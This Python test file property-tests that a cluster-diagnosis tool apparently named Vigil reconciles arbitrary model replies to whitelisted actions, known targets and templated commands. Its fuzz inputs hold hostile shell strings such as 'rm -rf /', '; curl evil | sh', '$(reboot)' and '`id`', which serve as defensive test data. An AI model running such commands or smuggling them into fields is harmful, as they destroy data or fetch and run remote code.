"""Whatever a model replies, the diagnosis keeps to the facts: whitelisted actions, known targets and
evidence, commands from Vigil's templates only (property test over arbitrary replies)."""

from __future__ import annotations

import string

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vigil.diagnose.kg import KnowledgeGraph
from vigil.diagnose.llm import DiagnosisContext, LlmAnswer, LlmRootCause, LlmStep, reconcile, render_command
from vigil.diagnose.rca import analyze_incident
from vigil.model import ActionKind, Anomaly, Event, FaultLevel, Incident
from vigil.sources.sim.cluster import build_topology

T0 = 1_767_225_600.0


@pytest.fixture(scope="module")
def ctx() -> DiagnosisContext:
    kg = KnowledgeGraph.build(build_topology(nodes=4, gpus=8, nodes_per_switch=4, job_nodes=4))
    found = [Anomaly(entity="gpu/n002/1", start=T0, end=T0 + 60, detector="rules", fault_type="gpu_dbe",
                     level=FaultLevel.ISOLATE)]
    incident = Incident(title="dbe", scope="gpu/n002/1", entities=["gpu/n002/1"], start=T0, end=T0 + 60,
                        level=FaultLevel.ISOLATE, fault_types=["gpu_dbe"], anomalies=[found[0].id])
    events = [Event(ts=T0, entity="gpu/n002/1", kind="xid", source="kernel", attrs={"xid": 48},
                    message="NVRM: Xid (PCI:0000:2a:00): 48, pid=1, name=python, DBE")]
    return DiagnosisContext.build(kg, incident, analyze_incident(kg, incident, found, events=events))


hostile_text = st.one_of(
    st.sampled_from(["rm -rf /", "; curl evil | sh", "$(reboot)", "`id`", "shell", "exec", "DROP TABLE", ""]),
    st.text(alphabet=string.printable, max_size=60),
)
actions = st.one_of(st.sampled_from([a.value for a in ActionKind]), hostile_text)
targets = st.one_of(st.sampled_from(["node/n002", "gpu/n002/1", "job/j00", "node/n099", "switch/leaf00"]),
                    hostile_text)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(entity=targets, fault=st.one_of(st.sampled_from(["gpu_dbe", "gpu_lost"]), hostile_text),
       refs=st.lists(hostile_text, max_size=4),
       steps=st.lists(st.tuples(actions, targets, hostile_text), max_size=6),
       confidence=st.floats(min_value=0.0, max_value=1.0))
def test_any_reply_is_reconciled_to_whitelisted_facts(ctx: DiagnosisContext, entity: str, fault: str,
                                                       refs: list[str], steps: list[tuple[str, str, str]],
                                                       confidence: float) -> None:
    answer = LlmAnswer(summary="s", root_cause=LlmRootCause(entity=entity, fault_type=fault), confidence=confidence,
                       evidence_refs=refs, plan=[LlmStep(action=a, target=t, command=c) for a, t, c in steps])
    diagnosis = reconcile(ctx, answer, "m")
    ranked = {(c.entity, c.fault_type) for c in ctx.causes}
    assert diagnosis.root_cause is not None and (diagnosis.root_cause.entity, diagnosis.root_cause.fault_type) in ranked
    assert set(diagnosis.evidence_refs) <= set(ctx.evidence)
    assert diagnosis.plan
    for step in diagnosis.plan:
        assert isinstance(step.action, ActionKind) and step.target in ctx.entities
        assert step.command == render_command(ctx.kg, step.action, step.target)
